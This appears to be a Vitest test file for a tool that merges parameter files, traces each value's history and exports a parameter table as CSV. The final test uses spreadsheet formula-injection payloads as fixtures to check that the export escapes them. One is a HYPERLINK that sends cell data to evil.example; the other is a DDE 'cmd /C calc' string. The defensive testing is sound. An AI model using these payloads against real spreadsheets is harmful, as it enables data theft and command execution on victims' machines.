import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { readParameterFile } from "~/lib/merger/parameterFile";
import { mergeParameterFiles, type MergeInputFile } from "~/lib/merger/parameterMerge";
import { setOfPath } from "~/lib/merger/parameterSet";
import { byteOrderMark } from "~/lib/shell/csvFile";
import { parametersOf } from "./mergedParameters";
import {
  checksByParameter,
  historyOf,
  matchingRows,
  parameterTableCsv,
  parameterTableCsvColumns,
  rowsAt,
} from "~/lib/merger/parameterTable";

const utf8 = (text: string) => new TextEncoder().encode(text);
function fileOf(path: string, text: string): MergeInputFile {
  return { id: path, path, set: setOfPath(path), parsed: readParameterFile(utf8(text)) };
}

const result = mergeParameterFiles([
  fileOf("standard/a.txt", "P0412\n10\nP0500\nAlpha\n"),
  fileOf("standard/b.txt", "P0412\n11\n"),
  fileOf("KUNDESPEC/k.txt", "P0412\n12\nP0900\nNew\n"),
]);
const checks = checksByParameter(result.checks);

describe("the history of a parameter", () => {
  it("lists every file and line that set the code, the used one last, and why", () => {
    expect(historyOf(parametersOf(result)[0]!)).toEqual([
      {
        path: "standard/a.txt",
        lineNumber: 1,
        set: "standard",
        value: "10",
        used: false,
        why: "Overwritten by KUNDESPEC/k.txt line 1.",
      },
      {
        path: "standard/b.txt",
        lineNumber: 1,
        set: "standard",
        value: "11",
        used: false,
        why: "Overwritten by KUNDESPEC/k.txt line 1.",
      },
      {
        path: "KUNDESPEC/k.txt",
        lineNumber: 1,
        set: "customer",
        value: "12",
        used: true,
        why: "Used: the customer set wins over the standard set.",
      },
    ]);
  });

  it("says when a later file or a later line of the same set wins, and when a line is the only one", () => {
    const sameSet = mergeParameterFiles([fileOf("a.txt", "P1\n1\n"), fileOf("b.txt", "P1\n2\nP1\n3\nP2\n4\n")]);
    expect(historyOf(parametersOf(sameSet)[0]!).map((step) => step.why)).toEqual([
      "Overwritten by b.txt line 3.",
      "Overwritten by b.txt line 3.",
      "Used: a later line in the same file wins.",
    ]);
    expect(
      historyOf(parametersOf(mergeParameterFiles([fileOf("a.txt", "P1\n1\n"), fileOf("b.txt", "P1\n2\n")]))[0]!).at(-1)!
        .why,
    ).toBe("Used: a later file in the same set wins over an earlier one.");
    expect(historyOf(parametersOf(sameSet)[1]!)).toEqual([
      expect.objectContaining({ value: "4", used: true, why: "The only line that sets this code." }),
    ]);
  });
});

describe("filters and search of the parameter table", () => {
  it.each([
    ["all", "", [0, 1, 2]],
    ["rewritten", "", [0]],
    ["added", "", [2]],
    ["all", "alpha", [1]],
    ["all", "p09", [2]],
    ["rewritten", "alpha", []],
  ] as const)("%s with %j gives rows %j", (filter, query, expected) => {
    expect([...matchingRows(result, checks, { filter, query })]).toEqual(expected);
  });

  it("finds the parameters with a check", () => {
    const withCheck = mergeParameterFiles([fileOf("s.txt", "P1\n1\nP2\n2\n"), fileOf("KUNDESPEC/k.txt", "P2\n2\n")]);
    const byIndex = checksByParameter(withCheck.checks);
    expect([...matchingRows(withCheck, byIndex, { filter: "checked", query: "" })]).toEqual([1]);
  });

  it("gives a window of rows, clipped at the end", () => {
    const rowNumbers = matchingRows(result, checks, { filter: "all", query: "" });
    expect(rowsAt(result, checks, rowNumbers, 1, 10).map((row) => [row.index, row.code])).toEqual([
      [1, "P0500"],
      [2, "P0900"],
    ]);
  });
});

describe("the CSV export", () => {
  it("has code, value, set, file, line, old value and checks, and reads back with papaparse", () => {
    const rowNumbers = matchingRows(result, checks, { filter: "all", query: "" });
    const csv = parameterTableCsv(rowsAt(result, checks, rowNumbers, 0, rowNumbers.length));
    expect(Papa.parse<string[]>(csv.slice(byteOrderMark.length)).data).toEqual([
      [...parameterTableCsvColumns],
      ["P0412", "12", "customer", "KUNDESPEC/k.txt", "1", "11", ""],
      ["P0500", "Alpha", "standard", "standard/a.txt", "3", "", ""],
      ["P0900", "New", "customer", "KUNDESPEC/k.txt", "3", "", ""],
    ]);
  });

  it("opens in a spreadsheet as text: a BOM first, values that look like formulas marked, plain numbers kept", () => {
    const hostile = mergeParameterFiles([
      fileOf(
        "standard/a.txt",
        'P001\n=HYPERLINK("http://evil.example/?"&A1,"click")\nP002\n@SUM(1+1)*cmd|\' /C calc\'!A0\nP003\n-5\nP004\n+1.5\nP005\nÆøå\n',
      ),
    ]);
    const hostileChecks = checksByParameter(hostile.checks);
    const rowNumbers = matchingRows(hostile, hostileChecks, { filter: "all", query: "" });
    const csv = parameterTableCsv(rowsAt(hostile, hostileChecks, rowNumbers, 0, rowNumbers.length));
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const values = Papa.parse<string[]>(csv.slice(1))
      .data.slice(1)
      .map((row) => row[1]);
    expect(values).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "-5",
      "+1.5",
      "Æøå",
    ]);
  });
});
